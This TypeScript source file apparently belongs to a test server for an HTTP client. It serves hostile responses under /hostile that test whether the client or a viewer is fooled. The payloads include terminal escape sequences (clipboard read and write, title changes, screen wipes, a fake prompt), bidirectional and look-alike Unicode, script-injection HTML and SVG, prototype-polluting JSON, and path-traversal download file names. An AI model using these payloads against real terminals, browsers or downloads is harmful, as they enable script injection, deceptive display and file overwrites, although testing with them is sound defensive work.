// Endpoints with answers that attack the program that shows them: markup, terminal escapes, bidirectional text, file
// names. The attacks do no real harm. One that works leaves the word "pwned": as a property of window, in a title, in
// the clipboard, as typed text, as a cookie of the page, or as a file in the wrong place.
import { Refused, type Endpoint, type Exchange } from '../exchange.js'

const [ESC, BEL, ST] = ['\x1b', '\x07', '\x1b\\']
const BASE64 = Buffer.from('pwned').toString('base64')

const SCRIPT =
  'for (const w of [globalThis, parent, top]) try { w.pwned = true; w.document.title = "pwned" } catch {}' +
  'try { document.cookie = "pwned=1" } catch {}'

/** Terminal escapes, by what they try to do. */
const ESCAPES: Readonly<Record<string, string>> = {
  'set the title': `${ESC}]0;pwned${BEL}${ESC}]2;pwned${ST}`,
  'write to the clipboard': `${ESC}]52;c;${BASE64}${BEL}`,
  'read the clipboard': `${ESC}]52;c;?${BEL}`,
  'link to a script': `${ESC}]8;;javascript:${SCRIPT}${ST}click me${ESC}]8;;${ST}`,
  'link to a file': `${ESC}]8;;file:///etc/passwd${ST}click me${ESC}]8;;${ST}`,
  'ask for the title': `${ESC}]2;pwned${BEL}${ESC}[21t`,
  'ask who is there': `${ESC}[c${ESC}[>c${ESC}[5n${ESC}[6n${ESC}[?1$p${ESC}P$q"p${ST}${ESC}]10;?${BEL}${ESC}]4;1;?${BEL}`,
  'show a notification': `${ESC}]9;pwned${BEL}${ESC}]777;notify;pwned;pwned${BEL}`,
  'load an image': `${ESC}]1337;File=inline=1:${BASE64}${BEL}${ESC}_Gf=100,a=T;${BASE64}${ST}${ESC}P0;0q"1;1;9;9#0~~${ST}`,
  'go to another screen': `${ESC}[?1049h${ESC}[?47h`,
  'erase everything': `${ESC}[H${ESC}[2J${ESC}[3J`,
  'reset the terminal': `${ESC}c${ESC}[!p`,
  'hide the cursor': `${ESC}[?25l`,
  'read the mouse': `${ESC}[?1000h${ESC}[?1003h${ESC}[?1006h`,
  'read the keys': `${ESC}[?2004h${ESC}[?1h${ESC}=${ESC}[?1004h`,
  'resize the window': `${ESC}[8;1;1t${ESC}[3;0;0t${ESC}[2t`,
  'shrink the screen': `${ESC}[5;5r${ESC}[?69h${ESC}[2;3s`,
  'change the character set': `${ESC}(0\x0e lqqqk \x0f`,
  'hide the text': `${ESC}[8m invisible ${ESC}[30;40m black on black`,
  'change the colours': `${ESC}]10;#000000${BEL}${ESC}]11;#000000${BEL}${ESC}]4;1;#000000${BEL}`,
  'write over the line': `safe\rpwned\b\b\b\b\b${ESC}[1A${ESC}[2K$ curl: done`,
  'write a prompt': `${ESC}[999;1H$ curl -u ann:secret https://pwned.example/\r\n`,
  'use 8-bit controls': '\u009b2J\u009d0;pwned\u009c\u0090$q"p\u009c',
  'never end a string': `${ESC}]0;pwned ${'.'.repeat(200)}`,
}

/** Text that looks like other text. */
const DECEITS: Readonly<Record<string, string>> = {
  'right to left': 'harmless\u202egnp.exe\u202c \u2067evil\u2069 \u200ftxt',
  'nothing to see': 'pass\u200b\u200d\u2060\ufeffword',
  'other letters': 'https://\u0430\u0440\u0440\u04cf\u0435.example/',
  'stacked marks': `Z${'\u0334\u0335\u0350\u0488'.repeat(100)}`,
  'other line ends': 'one\u2028two\u2029three\u0085four\x0bfive\x0csix',
  'tag characters': `flag\u{e0070}\u{e0077}\u{e006e}`,
}

const MARKUP = `<script>${SCRIPT}</script>
<img src=x onerror='${SCRIPT}'>
<svg onload='${SCRIPT}'><script>${SCRIPT}</script></svg>
<iframe srcdoc="<script>${SCRIPT.replaceAll('"', '&quot;')}</script>"></iframe>
<iframe src='javascript:${SCRIPT}'></iframe>
<a href='javascript:${SCRIPT}' target=_top>click me</a>
<a href="https://pwned.example/" target=_top>leave</a>
<form action="https://pwned.example/" target=_top><button autofocus>send</button></form>
<base href="https://pwned.example/" target=_top>
<meta http-equiv=refresh content="0;url=https://pwned.example/">
<link rel=stylesheet href="https://pwned.example/x.css">
<style>@import "https://pwned.example/y.css"; * { background: url("https://pwned.example/z.png") }</style>
<object data="https://pwned.example/"></object><embed src="https://pwned.example/">
<video autoplay src="https://pwned.example/v.mp4"></video>
<dialog open style="position:fixed;inset:0;z-index:2147483647;background:#fff">Your password, please: <input autofocus></dialog>
</title></textarea></template></pre></script></style>--><script>${SCRIPT}</script>
`

const HTML = `<!doctype html><meta charset=utf-8><title>harmless</title>\n${MARKUP}`

const SVG = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="99" height="99"
  onload='${SCRIPT}'><script>${SCRIPT}</script><rect width="99" height="99" fill="tomato"/>
  <image href="https://pwned.example/x.png"/><a xlink:href='javascript:${SCRIPT}'><text y="50">click me</text></a>
  <foreignObject width="99" height="99"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="https://pwned.example/"/>
  </body></foreignObject></svg>
`

const JSON_TEXT = `{"__proto__": {"pwned": true}, "constructor": {"prototype": {"pwned": true}}, "toString": 1,
"</script><script>${SCRIPT.replaceAll('"', '\\"')}</script>": "<img src=x onerror=pwned=1>",
"escape": "\\u001b]0;pwned\\u0007\\u001b[2J", "bidi": "\\u202egnp.exe", "alone": "\\ud800",
"big": 123456789012345678901234567890, "huge": 1e999, "tiny": 1e-999, "zero": -0, "twice": 1, "twice": 2,
"link": "javascript:pwned=1", "deep": ${'['.repeat(5000)}${']'.repeat(5000)}}
`

const NAMES = [
  '../../../../pwned',
  '/etc/pwned',
  '..\\..\\pwned.exe',
  '.curlrc',
  'harmless\u202egnp.exe',
  '<img src=x onerror=pwned=1>.txt',
  `name${ESC}]0;pwned${BEL}.txt`,
  'CON',
  'a'.repeat(300),
]

/** All attacks that are text, each on lines of its own. */
function text(): string {
  const attacks = { ...ESCAPES, ...DECEITS }
  const named = Object.entries(attacks).map(([name, attack]) => `${name}: ${attack}\n`)
  return `The beginning.\n${MARKUP}${named.join('')}${ESC}[0mThe end.\n`
}

function headerLines(): string[] {
  const plain = [
    `X-Markup: ${MARKUP.replaceAll('\n', ' ')}`,
    `X-Bidi: ${DECEITS['right to left']}`,
    `X-Long: ${'long '.repeat(12_000)}`,
    `X-Empty:`,
    `__proto__: pwned`,
    `Set-Cookie: markup=<script>pwned=1</script>; Path=/hostile`,
    `Set-Cookie: escape=${ESC}]0;pwned${BEL}; Path=/hostile`,
    `Set-Cookie: pwned=1; Domain=com; Path=/`,
    `Link: <javascript:pwned=1>; rel=preload; as=script`,
    `Refresh: 0; url=javascript:pwned=1`,
    `Content-Type: text/html"><script>pwned=1</script>; charset=utf-7`,
  ]
  const escapes = Object.values(ESCAPES).map((attack, i) => `X-Escape-${i}: ${attack.replace(/[\r\n]/g, ' ')}`)
  return [...plain, ...escapes]
}

/** Node's servers cannot write such a head, so this one is written by hand, for HTTP/1.1 only. */
function headers({ request, http2 }: Exchange): void {
  if (http2) throw new Refused(421, 'HTTP/2 has no such headers: --http1.1')
  const body = text()
  const status = `HTTP/1.1 200 ${ESC}]0;pwned${BEL}${ESC}[2J<script>pwned=1</script>`
  const end = [`Content-Length: ${Buffer.byteLength(body)}`, 'Connection: close', '', body]
  request.socket.end([status, ...headerLines(), ...end].join('\r\n'))
}

/** Suggests a file name, which curl uses with -OJ. `?name=` chooses one of the list. */
function filename({ request, http2, url }: Exchange): void {
  if (http2) throw new Refused(421, 'HTTP/2 has no such headers: --http1.1')
  const name = NAMES[Number(url.searchParams.get('name') ?? 0)] ?? NAMES[0]!
  const quoted = name.replace(/[\\"]/g, '\\$&')
  const disposition = `attachment; filename="${quoted}"; filename*=UTF-8''${encodeURIComponent(name)}`
  const body = 'pwned\n'
  const head = [`HTTP/1.1 200 OK`, `Content-Disposition: ${disposition}`, `Content-Length: ${body.length}`]
  request.socket.end([...head, 'Connection: close', '', body].join('\r\n'))
}

function longLine(exchange: Exchange): void {
  const size = Math.floor(exchange.number('bytes', 1, 1e8, 5_000_000))
  exchange.text('<b>'.repeat(Math.ceil(size / 3)).slice(0, size))
}

function body(path: string, type: string, about: string, content: string): Endpoint {
  return { path: `/hostile${path}`, about, answer: (exchange) => exchange.send(type, content) }
}

export const hostiles: readonly Endpoint[] = [
  body('', 'text/plain; charset=utf-8', 'text with every kind of attack', text()),
  body('/html', 'text/html; charset=utf-8', 'a page that tries to leave its frame', HTML),
  body('/svg', 'image/svg+xml', 'a drawing with scripts', SVG),
  body('/json', 'application/json', 'JSON that careless programs get wrong', JSON_TEXT),
  { path: '/hostile/headers', about: 'the attacks in the head (HTTP/1.1)', answer: headers },
  {
    path: '/hostile/filename',
    sample: '/hostile/filename?name=0',
    about: 'for -OJ: file names that lead elsewhere',
    answer: filename,
  },
  { path: '/hostile/long-line', about: '5 MB without a line end', answer: longLine },
]
